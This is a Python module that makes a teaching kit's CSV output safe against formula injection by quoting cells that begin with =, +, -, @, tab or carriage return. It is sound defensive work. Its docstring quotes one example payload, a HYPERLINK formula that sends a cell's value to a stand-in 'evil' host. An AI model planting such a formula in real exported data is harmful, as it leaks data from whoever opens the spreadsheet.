"""Every CSV file the kit writes, made safe to open in a spreadsheet (the one CSV writer helper).

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: a learner's name `=HYPERLINK("http://evil/?"&A2,"Click")` in a
roster or a gradebook would run in the facilitator's spreadsheet. OWASP's rule ("CSV
Injection") is followed: such a cell is written with a single quote in front (`'=HYPERLINK...`),
which the spreadsheet shows as text. Plain numbers (`-3`, `-0.5`) are left as they are, so
scores stay numbers.

Use `csv_writer` / `csv_dict_writer` wherever the kit writes CSV (they take the same arguments
as `csv.writer` / `csv.DictWriter`). `restore_cell` undoes the quote when the kit reads back a
file it wrote (the course's roster). This module is in the lowest layer so every package of the
kit may use it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

#: What makes a spreadsheet read a cell as a formula (OWASP: =, +, -, @, tab, carriage return).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet will show it as text: a leading quote before a formula start.

    Anything that is not a string (numbers, None) is returned unchanged; so is a string that
    is a plain number. A carriage return inside a cell becomes a line feed: Python's CSV writer
    (with the kit's "\n" line ends) would not quote it, and the cell would break in two.
    """
    if not isinstance(value, str):
        return value
    if "\r" in value:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
        if value.startswith("\n"):
            return "'" + value
    if not value.startswith(FORMULA_START):
        return value
    if _PLAIN_NUMBER.match(value):
        return value
    return "'" + value


def restore_cell(value: str) -> str:
    """The value `safe_cell` was given (its quote removed), for the kit reading its own file."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


class _SafeWriter:
    def __init__(self, writer: Any):
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect


class _SafeDictWriter:
    def __init__(self, writer: csv.DictWriter):
        self._writer = writer

    def writeheader(self) -> Any:
        header = {name: safe_cell(name) for name in self._writer.fieldnames}
        return self._writer.writerow(header)

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({k: safe_cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **kwargs: Any) -> _SafeWriter:
    """`csv.writer(out, **kwargs)` whose every cell goes through `safe_cell`."""
    return _SafeWriter(csv.writer(out, **kwargs))


def csv_dict_writer(out: Any, fieldnames: Iterable[str], **kwargs: Any) -> _SafeDictWriter:
    """`csv.DictWriter(out, fieldnames, **kwargs)` whose every cell goes through `safe_cell`."""
    return _SafeDictWriter(csv.DictWriter(out, fieldnames=list(fieldnames), **kwargs))
